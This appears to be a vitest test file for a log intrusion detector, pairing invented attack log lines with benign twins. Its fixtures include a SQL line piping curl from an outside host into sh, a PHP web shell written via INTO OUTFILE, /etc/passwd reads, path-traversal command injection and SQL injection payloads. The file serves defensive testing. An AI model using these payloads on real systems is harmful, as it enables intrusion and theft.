// Incidents and their harmless twins, written before the code was asked; what was seen at first sight stands in docs/detection.md.
import { expect, it } from 'vitest';
import { DAY, detect, drawn, HOUR, type Line, levels, request, spread } from './invented-logs.test-support.ts';

const home = (i: number) => `198.18.${i % 200}.${1 + drawn(i, 200)}`;
const thief = '198.51.100.31';
const office = '203.0.113.9';
const night = 2 * DAY + 3 * HOUR;
const start = Date.UTC(2026, 9, 5);
const iso = (at: number) => new Date(start + at * 1000).toISOString();

const shop: Line[] = [0, 1, 2, 3].flatMap((day) =>
  spread(60, day * DAY + 8 * HOUR, 400, (i, at) => request({ at, client: home(i), asks: 'GET /', size: 8_000 })),
);

it.each<{ readonly says: string; readonly lines: readonly Line[]; readonly want: string }>([
  {
    says: 'an index of members that answers a stranger',
    lines: [
      request({ at: night, client: thief, asks: 'GET /es/_cat/indices?v', size: 1_402 }),
      ...spread(8, night + 9, 6, (i, at) =>
        request({ at, client: thief, asks: 'POST /es/_search/scroll', size: 4_100_000 + i }),
      ),
    ],
    want: 'adverse possible',
  },
  {
    says: 'the search of a shop, which many use',
    lines: spread(40, night, 60, (i, at) =>
      request({
        at,
        client: i % 4 === 0 ? thief : home(i),
        asks: 'POST /catalog/_search',
        size: 30_000 + drawn(i, 900),
      }),
    ),
    want: 'nothing',
  },
  {
    says: 'the memory of an application, fetched from outside',
    lines: [request({ at: night, client: thief, asks: 'GET /actuator/heapdump', size: 81_000_000 })],
    want: 'adverse shown',
  },
  {
    says: 'one exploit that is made to run one command after the other',
    lines: ['id', 'ls%20/home', 'cat%20/etc/hosts', 'uname%20-a'].map((command, i) =>
      request({
        at: night + 20 * i,
        client: thief,
        asks: `GET /api/v1/totp/user-backup-code/../../license/keys-status/%3B${command}`,
        size: [88, 2_111, 410, 230][i] ?? 0,
      }),
    ),
    want: 'adverse possible',
  },
  {
    says: 'dashboards that ask for measurements in the address',
    lines: spread(60, night, 30, (i, at) =>
      request({
        at,
        client: thief,
        asks: `GET /api/datasources/proxy/1/api/v1/query_range?query=sum(rate(http_requests_total%7Bjob%3D%22a%22%2Ccode%3D~%225..%22%7D%5B5m%5D))%20by%20(pod)%20or%20up%20%3D%3D%200&start=${i}&step=15`,
        size: 900 + drawn(i, 40_000),
      }),
    ),
    want: 'nothing',
  },
  {
    says: 'a statement where a measurement is asked for',
    lines: spread(12, night, 30, (i, at) =>
      request({
        at,
        client: thief,
        asks: `GET /api/v1/query?query=up%27%20union%20select%20${i}%2Cpassword%20from%20users--`,
        size: 900 + drawn(i, 40_000),
      }),
    ),
    want: 'notable possible',
  },
])('$says: $want', async ({ lines, want }) => {
  expect(levels(await detect({ 'access.log': [...shop, ...lines] }), [thief])).toEqual({ [thief]: want });
});

const wordpress = (at: number, asks: string, status: number): Line =>
  request({ at, client: thief, asks, status, size: status === 302 ? 0 : 41_000 });

it.each([
  [
    'an editor who logs in five times a day, and is given a page each time',
    spread(40, 9 * HOUR, 4 * HOUR, (_, at) => wordpress(at, 'POST /wp-login.php', 302)).flatMap((login) => [
      login,
      wordpress(login.at + 2, 'GET /wp-admin/', 200),
    ]),
    'nothing',
  ],
  [
    'forty guesses, and then a page',
    [
      ...spread(40, 9 * HOUR, 3, (_, at) => wordpress(at, 'POST /wp-login.php', 302)),
      wordpress(9 * HOUR + 130, 'GET /wp-admin/', 200),
    ],
    'adverse shown',
  ],
])('in WordPress: %s', async (_, lines, want) => {
  expect(levels(await detect({ 'access.log': [...shop, ...lines] }), [thief])).toEqual({ [thief]: want });
});

const statement = (at: number, said: string): Line => ({
  at,
  text: `${iso(at).replace('T', ' ').replace('Z', '')} UTC [3010] webapp@members 10.0.2.15 LOG:  statement: ${said}`,
});
const audited = (at: number, said: string): Line => ({
  at,
  text: `${iso(at).slice(0, 10).replaceAll('-', '')} ${iso(at).slice(11, 19)},db1,app,10.0.0.8,7,9,QUERY,shop,'${said}',0`,
});

it.each([
  ["SELECT * FROM plans WHERE id = 1; COPY x FROM PROGRAM 'curl http://198.51.100.9/s|sh'--", 'adverse shown'],
  ["SELECT pg_read_file('/etc/passwd')", 'adverse shown'],
  ["COPY rates FROM PROGRAM 'gzip -dc /srv/in/rates.csv.gz' CSV", 'nothing'],
  ['SELECT name FROM programs WHERE id = 7', 'nothing'],
])('PostgreSQL was told: %s', async (said, want) => {
  const ordinary = spread(50, 0, 600, (_, at) => statement(at, 'SELECT id FROM plans WHERE active'));
  const found = await detect({ 'postgresql.log': [...ordinary, statement(40_000, said)] });
  expect(levels(found, ['10.0.2.15'])).toEqual({ '10.0.2.15': want });
});

it('a statement of the general log is that of whoever opened its connection', async () => {
  const line = (at: number, thread: number, said: string): Line => ({
    at,
    text: `${iso(at).replace('.000Z', '.000000Z')}\t${thread} ${said}`,
  });
  const lines = [
    line(10, 7, 'Connect\tshop@10.0.0.8 on shop using TCP/IP'),
    line(11, 8, 'Connect\tshop@10.0.0.9 on shop using TCP/IP'),
    line(12, 7, "Query\tSELECT '<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/html/t.php'"),
    line(13, 8, 'Query\tSELECT 1'),
  ];
  expect(levels(await detect({ 'general.log': lines }), ['10.0.0.8', '10.0.0.9'])).toEqual({
    '10.0.0.8': 'adverse shown',
    '10.0.0.9': 'nothing',
  });
});

it("a script that MySQL was made to write is somebody's", async () => {
  const said = "SELECT 1,\\'<?php system($_GET[0]);?>\\' INTO OUTFILE \\'/var/www/html/t.php\\'";
  const found = await detect({ 'audit.log': [audited(100, 'SELECT 1'), audited(200, said)] });
  expect(levels(found, ['10.0.0.8'])).toEqual({ '10.0.0.8': 'adverse shown' });
});

const asked = (at: number, user: string, resource: string, verb: string, code: number, source: string): Line => ({
  at,
  text: JSON.stringify({
    ...{ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', stage: 'ResponseComplete', verb },
    requestURI: `/api/v1/namespaces/shop/${resource}`,
    user: { username: user, groups: ['system:any'] },
    sourceIPs: [source],
    objectRef: { resource, namespace: 'shop', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code },
    requestReceivedTimestamp: iso(at),
  }),
});

it.each([
  ['a stranger is given secrets', asked(9_000, 'system:anonymous', 'secrets', 'list', 200, thief), 'adverse shown'],
  ['a stranger is refused', asked(9_000, 'system:anonymous', 'secrets', 'list', 403, thief), 'noise none'],
  ['a stranger asks for the version', asked(9_000, 'system:anonymous', 'configmaps', 'get', 200, thief), 'nothing'],
  ['an administrator reads a secret', asked(9_000, 'oidc:kato@example.com', 'secrets', 'get', 200, thief), 'nothing'],
])('in a cluster %s', async (_, line, want) => {
  const ordinary = spread(50, 0, 60, (_i, at) => asked(at, 'system:node:n1', 'pods', 'list', 200, '10.0.0.1'));
  expect(levels(await detect({ 'audit.log': [...ordinary, line] }), [thief])).toEqual({ [thief]: want });
});

it('an office of five who mistype on most mornings guesses nothing', async () => {
  const said = (at: number, how: string, user: string): Line => ({
    at,
    text: `${iso(at)} bastion sshd[${500 + (at % 400)}]: ${how} password for ${user} from ${office} port 40112 ssh2`,
  });
  const lines = [0, 1, 2, 3, 4].flatMap((day) =>
    ['abe', 'kato', 'mori', 'sato', 'ueda'].flatMap((user, i) => {
      const at = day * DAY + 9 * HOUR + 60 * i;
      return [
        ...spread((day + i) % 3, at - 30, 9, (_, then) => said(then, 'Failed', user)),
        said(at, 'Accepted', user),
      ];
    }),
  );
  expect(levels(await detect({ 'auth.log': lines }), [office])).toEqual({ [office]: 'noise none' });
});

it('an application whose password was changed at the database first guesses nothing', async () => {
  const line = (at: number, said: string): Line => ({
    at,
    text: `${iso(at).replace('T', ' ').replace('Z', '')} UTC [77] app@shop ${office} ${said}`,
  });
  const works = spread(300, 0, 570, (_, at) => line(at, 'LOG:  connection authorized: user=app database=shop'));
  const fails = spread(200, 2 * DAY, 2, (_, at) => line(at, 'FATAL:  password authentication failed for user "app"'));
  expect(levels(await detect({ 'postgresql.log': [...works, ...fails] }), [office])).toEqual({
    [office]: 'noise none',
  });
});
